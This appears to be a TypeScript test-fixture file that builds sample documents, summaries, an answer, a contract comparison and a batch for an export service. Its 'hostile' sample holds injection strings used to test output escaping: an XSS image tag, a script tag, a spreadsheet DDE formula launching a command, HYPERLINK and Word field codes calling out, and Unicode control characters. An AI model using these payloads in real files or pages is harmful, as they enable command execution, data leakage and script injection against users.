// Results to export: summaries in two languages, a long one, a hostile one, an answer, a comparison, a batch; no model, no disk.
import type { Batch } from '#contract/batch.ts'
import type { Change, Comparison } from '#contract/comparison.ts'
import type { DocumentRecord, Segment } from '#contract/document.ts'
import type { QuestionAnswer } from '#contract/question.ts'
import { fail, ok } from '#contract/result.ts'
import type { Claim, Summary, SummaryPreset } from '#contract/summary.ts'
import { compareTexts } from '../../main/comparisons/logic/compareTexts.ts'
import { ExportService } from '../../main/exports/exportService.ts'
import { hostilePayloads } from '../fixtures/hostilePayloads.ts'
import { createFakeLogger } from './fakeLogger.ts'

/** When every sample was made. */
export const madeAt = '2026-11-20T09:30:00.000Z'

/** A document with its text. */
export type SampleDocument = { readonly document: DocumentRecord; readonly segments: readonly Segment[] }

/** A document of sections, one paragraph each. */
export function sampleDocument(id: string, name: string, paragraphs: readonly string[], title = name): SampleDocument {
  const segments = paragraphs.map((text, at): Segment => ({
    text,
    locator: { kind: 'page', page: Math.floor(at / 4) + 1, start: (at % 4) * 2000, end: (at % 4) * 2000 + text.length },
    kind: 'paragraph',
  }))
  const pages = Math.max(1, Math.ceil(paragraphs.length / 4))
  return {
    segments,
    document: {
      id,
      name,
      path: `/somewhere/${id}`,
      sha256: id.padEnd(64, '0').replace(/[^0-9a-f]/g, 'a'),
      format: 'pdf',
      bytes: 1000,
      characters: paragraphs.join('').length,
      segments: segments.length,
      title,
      coverage: { unit: 'page', total: pages, read: pages, withoutText: pages > 2 ? [pages] : [] },
      addedAt: madeAt,
      openedAt: madeAt,
    },
  }
}

/** A claim resting on one segment of a document. */
export function sampleClaim({ segments }: SampleDocument, at: number, text: string, supported = true): Claim {
  const segment = segments[at]
  return { text, locators: segment === undefined ? [] : [segment.locator], supported, score: supported ? 1 : 0.4 }
}

/** A summary of a document with these claims. */
export function sampleSummary(
  { document }: SampleDocument,
  claims: readonly Claim[],
  preset: SummaryPreset = 'brief',
  more: Partial<Summary> = {},
): Summary {
  const listed = preset === 'bullets' || preset === 'actions'
  return {
    id: `${document.id}-summary`,
    jobId: `${document.id}-job`,
    documentId: document.id,
    preset,
    instruction: null,
    text: claims.map(({ text }) => (listed ? `- ${text}` : text)).join(listed ? '\n' : ' '),
    rawText: '',
    claims: [...claims],
    coverage: document.coverage,
    droppedSentences: 0,
    steps: { computed: 1, reused: 0 },
    provenance: {
      documentSha256: document.sha256,
      model: { name: 'Sample model', sha256: 'f'.repeat(64) },
      prompt: { id: 'summary', version: '3' },
      mode: 'free',
      seed: 0,
      createdAt: madeAt,
    },
    ...more,
  }
}

const lease = sampleDocument('ab01', 'Lease 2026.pdf', [
  'The tenant shall pay a monthly rent of EUR 1,250, due on the third day of each month.',
  'The landlord is not liable for damage caused by ordinary wear and tear.',
  'Either party may terminate this lease by written notice of three months.',
  'The deposit is returned within 30 days after the keys have been handed over.',
])
const vertrag = sampleDocument(
  'ab02',
  'Mietvertrag.pdf',
  [
    'Der Mieter zahlt eine monatliche Miete von 1.250 Euro, fällig am dritten Werktag. Größere Übergänge müssen überprüft werden.',
    'Der Vermieter haftet nicht für Schäden durch gewöhnliche Abnutzung.',
    'Die Kündigungsfrist beträgt drei Monate.',
    'Die Kündigungsfrist beträgt sechs Monate.',
  ],
  'Mietvertrag für die Wohnung Gartenstraße 5',
)
const wide = sampleDocument('ab03', 'Languages.txt', [
  'Договор вступает в силу с первого мая.',
  'Η σύμβαση αρχίζει την πρώτη Μαΐου.',
  'Hợp đồng có hiệu lực từ tháng năm.',
  '本合同自五月一日起生效。',
  'Total: 12 🙂 items.',
])
const long = sampleDocument(
  'ab04',
  'Long contract.pdf',
  Array.from(
    { length: 300 },
    (_, at) => `Clause ${at + 1} obliges the supplier to deliver lot ${at + 101} before day ${at + 3}.`,
  ),
)
const hostile = sampleDocument('ab05', '<img src=x onerror=alert(1)>.pdf', [
  ...hostilePayloads.map(({ text }) => text),
  '=HYPERLINK("http://example.org/?"&A1,"press")',
  "+1+cmd|' /C calc'!A0",
  '{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "http://example.org"}}}',
  '# Not a heading\n\n[link](http://example.org) ![image](http://example.org/x.png)',
  'Pay \u202Eevif\u202C euros\u200B to\u0007 Ann \uD800.',
  ']]></w:t></w:r><w:r><w:instrText>INCLUDETEXT http://example.org</w:instrText></w:r>',
])

/** Every sample by name, with the summary made of it. */
export const sampleSummaries = {
  english: {
    of: lease,
    summary: sampleSummary(
      lease,
      [
        sampleClaim(lease, 0, 'The tenant shall pay a monthly rent of EUR 1,250.'),
        sampleClaim(lease, 1, 'The landlord is not liable for ordinary wear and tear.'),
        sampleClaim(lease, 9, 'Pets are allowed in the garden.', false),
        sampleClaim(lease, 3, 'The deposit is returned within 30 days.'),
      ],
      'bullets',
      { droppedSentences: 2 },
    ),
  },
  german: {
    of: vertrag,
    summary: sampleSummary(
      vertrag,
      [
        sampleClaim(vertrag, 0, 'Der Mieter zahlt eine monatliche Miete von 1.250 Euro.'),
        {
          ...sampleClaim(vertrag, 2, 'Die Frist beträgt vier Monate.', false),
          support: 'partly',
          notes: [{ kind: 'number', said: 'vier' }],
        },
      ],
      'brief',
      {
        contradictions: [
          {
            kind: 'number',
            a: {
              text: 'Die Kündigungsfrist beträgt drei Monate.',
              locators: [{ kind: 'page', page: 1, start: 4000, end: 4040 }],
            },
            b: {
              text: 'Die Kündigungsfrist beträgt sechs Monate.',
              locators: [{ kind: 'page', page: 1, start: 6000, end: 6041 }],
            },
          },
        ],
      },
    ),
  },
  scripts: {
    of: wide,
    summary: sampleSummary(
      wide,
      wide.segments.map(({ text }, at) => sampleClaim(wide, at, text)),
    ),
  },
  long: {
    of: long,
    summary: sampleSummary(
      long,
      long.segments.map(({ text }, at) => sampleClaim(long, at, text, at % 25 !== 7)),
      'detailed',
    ),
  },
  hostile: {
    of: hostile,
    summary: sampleSummary(
      hostile,
      hostile.segments.map(({ text }, at) => sampleClaim(hostile, at, text)),
      'own',
      {
        instruction: '<script>alert(1)</script>',
      },
    ),
  },
} as const

const documents: readonly SampleDocument[] = [lease, vertrag, wide, long, hostile]
const summaries: readonly Summary[] = Object.values(sampleSummaries).map(({ summary }) => summary)

/** An answer from two passages, one of its sentences not supported. */
export const sampleAnswer: QuestionAnswer = {
  id: 'answer-1',
  threadId: 'thread-1',
  scope: { library: true },
  question: 'When is the rent due?',
  lookedFor: ['rent', 'due'],
  carried: [],
  missing: [],
  outcome: 'answered',
  absentBecause: null,
  mode: 'free',
  reason: 'complete',
  text: 'It is due on the third day of each month. It may be paid in cash.',
  claims: [
    { ...sampleClaim(lease, 0, 'It is due on the third day of each month.'), documentId: 'ab01', passages: [1] },
    { ...sampleClaim(lease, 9, 'It may be paid in cash.', false), documentId: null, passages: [] },
  ],
  passages: [lease, vertrag].map(({ document, segments }, at) => ({
    number: at + 1,
    documentId: document.id,
    documentName: document.name,
    position: 0,
    segments: 1,
    locators: segments.slice(0, 1).map(({ locator }) => locator),
    text: segments[0]?.text ?? '',
    best: { start: 0, end: 10, locators: [] },
    score: 0.9,
  })),
  searched: { documents: 2, waiting: 0 },
  provenance: {
    documentSha256: null,
    method: 'search 1',
    model: { name: 'Sample model', sha256: 'f'.repeat(64) },
    prompt: { id: 'question', version: '1' },
    embedded: false,
    seed: 0,
    createdAt: madeAt,
  },
}

const older = sampleDocument('ab06', 'Contract v1.pdf', [
  '1. Payment',
  '1.1 The Customer shall pay within thirty (30) days. Late payments bear interest at 5%.',
  '1.2 The Supplier is not liable for indirect damages.',
  '2. Term',
  '2.1 This Agreement begins on 1 May 2024 and continues for two years.',
  '2.2 Disputes are heard by the courts of Vienna, and nowhere else.',
])
const newer = sampleDocument('ab07', 'Contract v2.pdf', [
  '1. Venue and payment',
  '1.1 Disputes are heard by the courts of Vienna, and nowhere else.',
  '1.2 The Customer shall pay within forty-five (45) days. Late payments bear interest at 5%.',
  '1.3 The Supplier is liable for indirect damages.',
  '2. Term',
  '2.1 This Agreement commences on May 1, 2024 and continues for two years.',
  '2.2 Notices are sent by registered mail.',
])

function compareSamples(): { readonly comparison: Comparison; readonly changes: readonly Change[] } {
  const work = compareTexts(older.segments, newer.segments, true)
  let step = work.next()
  while (step.done !== true) step = work.next()
  const { changes, counts, renumbered, identical, passages } = step.value
  const side = ({ document }: SampleDocument, amount: number) => {
    const { id, name, title, sha256, format, coverage, characters } = document
    return { documentId: id, name, title, sha256, format, coverage, characters, passages: amount, outdated: false }
  }
  const comparison = {
    id: 'comparison-1',
    before: side(older, passages.before),
    after: side(newer, passages.after),
    identical,
    sameFile: false,
    counts,
    renumbered,
    method: { id: 'passages', version: '1' },
    createdAt: madeAt,
  }
  return { comparison, changes }
}

/** A comparison of two versions of a contract, with its changes. */
export const sampleComparison = compareSamples()

/** A batch of two documents that are done and one that was left out. */
export const sampleBatch: Batch = {
  job: {
    id: 'batch-1',
    kind: 'batch',
    documentId: null,
    parentId: null,
    title: 'Contracts',
    state: 'done',
    doneSteps: 3,
    totalSteps: 3,
    failure: null,
    createdAt: madeAt,
    updatedAt: madeAt,
  } as unknown as Batch['job'], // as: an export reads none of a job's other fields
  folderId: null,
  preset: 'brief',
  instruction: null,
  documents: [
    ...[sampleSummaries.english, sampleSummaries.german].map(({ of, summary }) => ({
      documentId: of.document.id,
      name: of.document.name,
      jobId: summary.jobId,
      state: 'done' as const,
      failure: null,
      summaryId: summary.id,
    })),
    {
      documentId: null,
      name: 'Scan.pdf',
      jobId: null,
      state: 'left-out',
      failure: { code: 'document-without-text', details: { name: 'Scan.pdf', unit: 'page', total: 3 } },
      summaryId: null,
    },
  ],
  overview: {
    text: 'Both leases ask for a monthly rent.',
    claims: [{ ...sampleClaim(lease, 0, 'Both leases ask for a monthly rent.'), documentId: 'ab01' }],
    summaries: 2,
    leftOut: [],
    provenance: sampleSummaries.english.summary.provenance,
  },
}

/** The service over the samples. */
export function createSampleExports(resources: string): ExportService {
  return new ExportService({
    resources,
    appVersion: '0.1.0',
    logger: createFakeLogger(),
    now: () => new Date(madeAt),
    documents: {
      list: async () => ok(documents.map(({ document }) => document)),
      get: async (id) => {
        const found = documents.find(({ document }) => document.id === id)
        return found === undefined ? fail('not-found', { what: 'document', id }) : ok(found.document)
      },
      allSegments: async (id) => ok(documents.find(({ document }) => document.id === id)?.segments ?? []),
    },
    summaries: { list: async (id) => ok(summaries.filter(({ documentId }) => documentId === id)) },
    questions: {
      answer: async (id) => (id === sampleAnswer.id ? ok(sampleAnswer) : fail('not-found', { what: 'answer', id })),
    },
    comparisons: {
      get: async (id) =>
        id === sampleComparison.comparison.id
          ? ok(sampleComparison.comparison)
          : fail('not-found', { what: 'comparison', id }),
      changes: async (_id, from, count) => ok(sampleComparison.changes.slice(from, from + count)),
    },
    batches: { get: async (id) => (id === 'batch-1' ? ok(sampleBatch) : fail('not-found', { what: 'job', id })) },
  })
}
